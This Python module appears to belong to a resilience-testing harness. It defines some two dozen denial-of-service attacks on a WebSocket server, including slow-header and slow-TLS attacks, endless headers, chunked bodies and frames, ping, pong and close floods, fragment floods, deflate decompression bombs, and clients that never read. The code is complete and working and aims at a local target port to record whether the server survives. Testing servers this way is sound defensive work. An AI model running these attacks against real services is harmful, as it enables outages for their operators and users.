"""What hostile clients do: one coroutine for each attack, run once for each connection until time is over.

Each returns how its connection ended, in the words of `hostile.peer.Peer.outcome`; ``held`` means that the victim kept it.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import ssl
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from hostile.peer import REQUEST, Peer, bomb, dial, frame

__all__ = ["ATTACKS", "Target"]

BLOCK = 64 * 1024
HUGE = (1 << 63) - 1
GRACE_S = 10.0
"""How long after the attack it is waited for the end of a connection, seconds; a victim that ends one does it sooner."""
HANDSHAKE_S = 30.0
"""The same for a handshake, which a victim ends after ten seconds, or later where thousands came before."""


@dataclass
class Target:
    """Whom to attack, and for how long."""

    port: int
    path: bytes
    until_s: float
    """Time of the loop when the attack ends."""
    limit: int
    """Largest message that the victim takes, bytes."""
    tls: ssl.SSLContext | None = None
    sent: int = 0
    """Frames, heads or connections sent by all, for the table."""
    outcomes: list[str] = field(default_factory=list)

    async def open(self, *, deflate: bool = False, is_deaf: bool = False, upgrade: bool = True) -> Peer:
        """Connect."""
        return await dial(self.port, path=self.path, deflate=deflate, tls=self.tls, is_deaf=is_deaf, upgrade=upgrade)


Attack = Callable[[Target, int], Awaitable[None]]


async def _end(target: Target, peer: Peer, wait_s: float = GRACE_S) -> None:
    """Take down how it ended; the victim gets a moment after the attack to end it."""
    await peer.outlast(max(target.until_s, asyncio.get_running_loop().time() + wait_s))
    target.outcomes.append(peer.outcome())
    peer.leave()


async def _flood(target: Target, block: bytes, count: int, *, first: bytes = b"", deflate: bool = False) -> None:
    """Send the same block as fast as it is taken, on a new connection whenever the victim ends one."""
    loop = asyncio.get_running_loop()
    while loop.time() < target.until_s:
        peer = await target.open(deflate=deflate)
        if loop.time() >= target.until_s:  # too late to begin
            peer.leave()
            return
        goes_on = await peer.push(first + block, target.until_s)
        target.sent += count
        while goes_on:
            target.sent += count
            goes_on = await peer.push(block, target.until_s)
        await _end(target, peer)


def _blocks(one: bytes) -> tuple[bytes, int]:
    count = max(BLOCK // len(one), 1)
    return one * count, count


async def ping_flood(target: Target, place: int) -> None:
    """Pings without end."""
    await _flood(target, *_blocks(frame(9, b"x")))


async def pong_flood(target: Target, place: int) -> None:
    """Pongs that nobody asked for."""
    await _flood(target, *_blocks(frame(10, b"x")))


async def close_flood(target: Target, place: int) -> None:
    """Close frames behind a first one, on ever new connections."""
    await _flood(target, *_blocks(frame(8, b"\x03\xe8")))


async def fragments_of_0(target: Target, place: int) -> None:
    """One message of continuation frames without payload, and without end."""
    await _flood(target, *_blocks(frame(0, b"", fin=False)), first=frame(2, b"", fin=False))


async def fragments_of_1(target: Target, place: int) -> None:
    """One message of continuation frames of a byte each."""
    await _flood(target, *_blocks(frame(0, b"x", fin=False)), first=frame(2, b"", fin=False))


async def fragments_of_3(target: Target, place: int) -> None:
    """One message of continuation frames of three bytes each, which are objects of their own in Python."""
    await _flood(target, *_blocks(frame(0, b"xyz", fin=False)), first=frame(2, b"", fin=False))


async def largest_frames(target: Target, place: int) -> None:
    """Messages of exactly the size that is allowed, in one frame."""
    await _flood(target, frame(2, bytes(target.limit)), 1)


async def frames_too_large(target: Target, place: int) -> None:
    """A byte more than allowed, ever again."""
    await _flood(target, frame(2, bytes(target.limit + 1)), 1)


async def endless_frame(target: Target, place: int) -> None:
    """A frame that says that 2^63-1 bytes follow, and what follows."""
    await _flood(target, bytes(BLOCK), 1, first=frame(2, b"", size=HUGE))


async def endless_fragment(target: Target, place: int) -> None:
    """The same as the beginning of a message in fragments."""
    await _flood(target, bytes(BLOCK), 1, first=frame(2, b"", fin=False, size=HUGE))


async def bombs(target: Target, place: int) -> None:
    """Sixteen times what is allowed, compressed into one frame, and more of it behind."""
    packed = frame(2, bomb(16 * target.limit), rsv=4)
    await _flood(target, packed, 1, deflate=True)


async def bombs_in_pieces(target: Target, place: int) -> None:
    """The same, in fragments of 100 bytes."""
    data = bomb(16 * target.limit)
    pieces = [data[at : at + 100] for at in range(0, len(data), 100)]
    frames = [frame(2, pieces[0], fin=False, rsv=4), *(frame(0, piece, fin=False) for piece in pieces[1:])]
    await _flood(target, b"".join(frames), len(frames), deflate=True)


async def bombs_with_memory(target: Target, place: int) -> None:
    """Messages within the limit that refer to the window of those before: a kilobyte each, inflated to what is allowed."""
    await _flood(target, frame(2, bomb(target.limit), rsv=4), 1, deflate=True)


async def silent(target: Target, place: int) -> None:
    """Connect and say nothing."""
    target.sent += 1
    await _end(target, await target.open(upgrade=False), HANDSHAKE_S)


async def slow_head(target: Target, place: int) -> None:
    """Say one more letter of a request each second."""
    peer = await target.open(upgrade=False)
    peer.transport.write(b"GET " + target.path + b" HTTP/1.1\r\nHost: x\r\nX-Long: ")
    while not peer.is_gone and asyncio.get_running_loop().time() < target.until_s:
        target.sent += 1
        peer.transport.write(b"x")
        await peer.outlast(min(target.until_s, asyncio.get_running_loop().time() + 1))
    await _end(target, peer, HANDSHAKE_S)


async def slow_tls(target: Target, place: int) -> None:
    """Begin TLS and say one more byte of its hello each second."""
    plain = Target(target.port, target.path, target.until_s, target.limit, outcomes=target.outcomes)
    peer = await plain.open(upgrade=False)
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(400)
    for at in range(len(hello)):
        if peer.is_gone or asyncio.get_running_loop().time() >= target.until_s:
            break
        target.sent += 1
        peer.transport.write(hello[at : at + 1])
        await peer.outlast(min(target.until_s, asyncio.get_running_loop().time() + 1))
    await _end(plain, peer)


async def no_tls(target: Target, place: int) -> None:
    """Speak no TLS where it is wanted, ever again."""
    plain = Target(target.port, target.path, target.until_s, target.limit, outcomes=target.outcomes)
    while asyncio.get_running_loop().time() < target.until_s:
        peer = await plain.open(upgrade=False)
        target.sent += 1
        peer.transport.write(REQUEST % (target.path, b""))
        await _end(plain, peer)


async def endless_line(target: Target, place: int) -> None:
    """A header line without end."""
    await _heads(target, b"X-Long: ", b"x" * BLOCK, 1)


async def endless_headers(target: Target, place: int) -> None:
    """Headers without end."""
    await _heads(target, b"", b"X-Another: one\r\n" * 4096, 4096)


async def _heads(target: Target, begin: bytes, block: bytes, count: int) -> None:
    loop = asyncio.get_running_loop()
    while loop.time() < target.until_s:
        peer = await target.open(upgrade=False)
        until_s = max(target.until_s, loop.time() + GRACE_S)  # a head cut short by the end of the attack is a slow one
        goes_on = await peer.push(b"GET " + target.path + b" HTTP/1.1\r\nHost: x\r\n" + begin, until_s)
        while goes_on:
            target.sent += count
            goes_on = await peer.push(block, until_s)
        await _end(target, peer)


async def endless_body(target: Target, place: int) -> None:
    """An HTTP request whose body, in chunks, does not end."""
    while asyncio.get_running_loop().time() < target.until_s:
        peer = await target.open(upgrade=False)
        head = b"POST /x HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
        goes_on = await peer.push(head, target.until_s)
        block = b"10000\r\n" + bytes(BLOCK) + b"\r\n"
        while goes_on:
            target.sent += 1
            goes_on = await peer.push(block, target.until_s)
        await _end(target, peer)


async def hasty(target: Target, place: int) -> None:
    """Send frames together with the request, without waiting for an answer."""
    block, count = _blocks(frame(2, b"hasty"))
    while asyncio.get_running_loop().time() < target.until_s:
        peer = await target.open(upgrade=False)
        goes_on = await peer.push(REQUEST % (target.path, b""), target.until_s)
        while goes_on:
            target.sent += count
            goes_on = await peer.push(block, target.until_s)
        await _end(target, peer)


async def idle(target: Target, place: int) -> None:
    """Open a WebSocket and stay."""
    peer = await target.open()
    target.sent += 1
    await peer.outlast(target.until_s)
    target.outcomes.append(peer.outcome() if peer.is_gone or peer.status == 101 else "never opened")
    peer.leave()


async def churn(target: Target, place: int) -> None:
    """Open and end as fast as it goes: with a close frame, with a reset, and in the middle of the handshake."""
    loop = asyncio.get_running_loop()
    for turn in itertools.count(place):
        if loop.time() >= target.until_s:
            return
        target.sent += 1
        peer = await target.open(upgrade=turn % 3 != 2)
        if turn % 3 == 0:
            await peer.push(frame(8, b"\x03\xe8"), target.until_s)
            await peer.outlast(loop.time() + 10)
            target.outcomes.append(peer.outcome())
        elif turn % 3 == 2:
            await peer.push(REQUEST % (target.path, b""), target.until_s)
        peer.leave()
        await asyncio.sleep(0)


async def deaf(target: Target, place: int) -> None:
    """Send what is echoed and never read."""
    peer = await target.open(is_deaf=True)
    block, count = _blocks(frame(2, bytes(1000)))
    while await peer.push(block, target.until_s):
        target.sent += count
    await _end(target, peer)


async def deaf_pings(target: Target, place: int) -> None:
    """Send pings and never read the pongs."""
    peer = await target.open(is_deaf=True)
    block, count = _blocks(frame(9, bytes(125)))
    while await peer.push(block, target.until_s):
        target.sent += count
    await _end(target, peer)


async def half_closed(target: Target, place: int) -> None:
    """Say that nothing more will come, and stay; every other one has never read."""
    while asyncio.get_running_loop().time() < target.until_s:
        peer = await target.open(is_deaf=bool(place % 2))
        target.sent += 1
        for _ in range(100 if place % 2 else 1):
            peer.transport.write(frame(2, bytes(60_000)))
        peer.transport.write_eof()
        await _end_soon(target, peer)


async def _end_soon(target: Target, peer: Peer) -> None:
    """A peer that does not read does not see the end; the next one is tried meanwhile."""
    if peer.transport.is_reading():
        await peer.outlast(target.until_s)
    else:
        await asyncio.sleep(max(min(5.0, target.until_s - asyncio.get_running_loop().time()), 0))
        peer.transport.resume_reading()
        await peer.outlast(asyncio.get_running_loop().time() + 5)
    target.outcomes.append(peer.outcome())
    peer.leave()


ATTACKS: dict[str, Attack] = {
    "silent": silent,
    "slow-head": slow_head,
    "slow-tls": slow_tls,
    "no-tls": no_tls,
    "endless-line": endless_line,
    "endless-headers": endless_headers,
    "endless-body": endless_body,
    "hasty": hasty,
    "ping-flood": ping_flood,
    "pong-flood": pong_flood,
    "close-flood": close_flood,
    "fragments-0": fragments_of_0,
    "fragments-1": fragments_of_1,
    "fragments-3": fragments_of_3,
    "largest-frames": largest_frames,
    "too-large": frames_too_large,
    "endless-frame": endless_frame,
    "endless-fragment": endless_fragment,
    "bombs": bombs,
    "bombs-in-pieces": bombs_in_pieces,
    "bombs-with-memory": bombs_with_memory,
    "idle": idle,
    "churn": churn,
    "deaf": deaf,
    "deaf-pings": deaf_pings,
    "half-closed": half_closed,
}
